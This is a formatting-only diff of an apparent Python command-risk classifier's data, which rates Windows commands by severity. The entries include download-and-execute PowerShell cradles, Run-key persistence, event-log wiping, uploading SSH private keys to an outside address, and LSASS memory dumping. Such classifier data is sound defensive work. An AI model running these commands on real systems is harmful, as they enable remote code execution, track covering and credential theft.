@@ -112,7 +112,7 @@ REGISTRY_AND_STARTUP: list[tuple[str, RiskLevel]] = [
         MODERATE,
     ),
     (
-        'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ '
+        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ "
         '/d "C:\\Users\\Public\\upd.exe" /f',
         HIGH,
     ),
@@ -212,12 +212,12 @@ FETCHED_AND_RUN: list[tuple[str, RiskLevel]] = [
     ("Invoke-RestMethod https://get.example.com/install.ps1 | Invoke-Expression", HIGH),
     ("Invoke-Expression (Invoke-WebRequest -Uri http://203.0.113.5/a.ps1).Content", HIGH),
     (
-        "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
+        'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('
         "'http://10.0.0.5/p.ps1')\"",
         HIGH,
     ),
     (
-        "powershell.exe -ExecutionPolicy Bypass -c \"iex ((New-Object System.Net.WebClient)"
+        'powershell.exe -ExecutionPolicy Bypass -c "iex ((New-Object System.Net.WebClient)'
         ".DownloadString('https://x.example/i.ps1'))\"",
         HIGH,
     ),
@@ -251,7 +251,10 @@ FETCHED_AND_RUN: list[tuple[str, RiskLevel]] = [
         HIGH,
     ),
     ("iwr http://203.0.113.5/a.exe -OutFile a.exe; .\\a.exe", HIGH),
-    ("Invoke-WebRequest http://x.example/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe", HIGH),
+    (
+        "Invoke-WebRequest http://x.example/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe",
+        HIGH,
+    ),
     ("msiexec /i http://x.example/a.msi /qn", HIGH),
     ("mshta http://x.example/a.hta", HIGH),
     ('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")', HIGH),
@@ -314,7 +317,7 @@ TRACKS_HIDDEN: list[tuple[str, RiskLevel]] = [
     ("wevtutil cl System", CRITICAL),
     ("wevtutil.exe clear-log Application", CRITICAL),
     ('wevtutil el | ForEach-Object { wevtutil cl "$_" }', CRITICAL),
-    ("for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"", CRITICAL),
+    ('for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"', CRITICAL),
     ("Clear-EventLog -LogName Application,Security,System", CRITICAL),
     ("Clear-EventLog Security", CRITICAL),
     ("Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }", CRITICAL),
@@ -371,7 +374,7 @@ SECRETS_SENT: list[tuple[str, RiskLevel]] = [
     ),
     (
         "(New-Object Net.WebClient).UploadFile('http://203.0.113.5/u', "
-        "\"$env:USERPROFILE\\.ssh\\id_ed25519\")",
+        '"$env:USERPROFILE\\.ssh\\id_ed25519")',
         CRITICAL,
     ),
     ('curl.exe -F "f=@%USERPROFILE%\\.ssh\\id_rsa" http://203.0.113.5/u', CRITICAL),
@@ -382,7 +385,10 @@ SECRETS_SENT: list[tuple[str, RiskLevel]] = [
         "\\\\host\\c$\\temp\\",
         HIGH,
     ),
-    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", CRITICAL),
+    (
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
+        CRITICAL,
+    ),
     (
         "rundll32 comsvcs.dll MiniDump (Get-Process lsass).Id C:\\t\\l.dmp full",
         CRITICAL,
